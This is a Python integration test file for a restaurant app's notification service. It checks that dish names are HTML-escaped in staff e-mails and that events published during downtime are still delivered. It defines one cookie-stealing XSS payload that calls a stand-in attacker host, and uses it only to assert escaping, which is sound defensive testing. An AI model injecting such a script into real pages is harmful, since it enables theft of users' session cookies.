"""Seed 002's notification bugs (ORIGINALS.md C), proven absent: a dish's HTML went into the admin's
e-mail unescaped, and an event published while the notification service was down was lost."""

from __future__ import annotations

from brigade_common.testing.inprocess import TestKeys
from brigade_common.testing.waiting import eventually
from services.notifications.tests.integration.harness import Publisher, Service, migrate, running
from services.notifications.tests.integration.smtp_server import SmtpCatcher

SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"


async def test_a_dish_named_with_a_script_reaches_every_staff_member_escaped(
    service: Service, publisher: Publisher, smtp: SmtpCatcher
) -> None:
    await publisher.user("chef", roles=("staff",))
    await publisher.user("ana")
    await eventually(lambda: len(smtp.received) >= 2, 15, "both welcomes")
    await publisher.dish("arepa", f"Arepa {SCRIPT}", description=f"<b>{SCRIPT}</b>")
    await eventually(lambda: len(smtp.to("chef@example.com")) >= 2, 15, "the new dish mail")
    _welcome, dish = smtp.to("chef@example.com")
    html, text = dish.part("html"), dish.part("plain")
    assert "<script>" not in html and "<b>" not in html
    assert "&lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/script&gt;" in html
    assert SCRIPT in text, "the plain-text part shows the name as it was given"
    assert dish.message["Subject"] == f"New dish: Arepa {SCRIPT}"
    assert smtp.subjects("ana@example.com") == ["Welcome to Brigade, Ana"], "customers are not told"
    assert (await service.titles("chef"))[0] == f"New dish: Arepa {SCRIPT}"


async def test_events_published_while_the_service_was_down_are_notified_when_it_is_back(
    database_url: str, nats_url: str, publisher: Publisher, smtp: SmtpCatcher
) -> None:
    await migrate(database_url)
    keys = TestKeys()
    async with running(database_url, nats_url, keys, smtp_port=smtp.port) as service:
        await publisher.user("ana")
        await service.wait_titles("ana", 1)
        # Sent before the stop: a batch claimed when the service stops waits out its lease.
        await eventually(lambda: len(smtp.to("ana@example.com")) == 1, 15, "the welcome mail")
    # Down: the durable consumers keep their place in the streams.
    await publisher.order("ana", "reserved", 2)
    await publisher.order("ana", "expired", 3)
    async with running(database_url, nats_url, keys, smtp_port=smtp.port) as service:
        titles = await service.wait_titles("ana", 3)
        assert titles == ["Order expired", "Ready for payment", "Welcome to Brigade, Ana"]
        await eventually(lambda: len(smtp.to("ana@example.com")) >= 3, 15, "their mails")
    assert sorted(smtp.subjects("ana@example.com")) == ["Order expired", "Ready for payment", "Welcome to Brigade, Ana"]


async def test_an_order_heard_of_before_its_customer_signed_up_is_mailed_once_the_address_is_known(
    service: Service, publisher: Publisher, smtp: SmtpCatcher
) -> None:
    await publisher.order("ana", "reserved", 2)
    await service.wait_titles("ana", 1)
    (waiting,) = await service.mail("queued")
    assert waiting["to"] is None
    await publisher.user("ana")
    await eventually(lambda: len(smtp.to("ana@example.com")) >= 2, 15, "the order mail and the welcome")
    assert sorted(smtp.subjects("ana@example.com")) == ["Ready for payment", "Welcome to Brigade, Ana"]
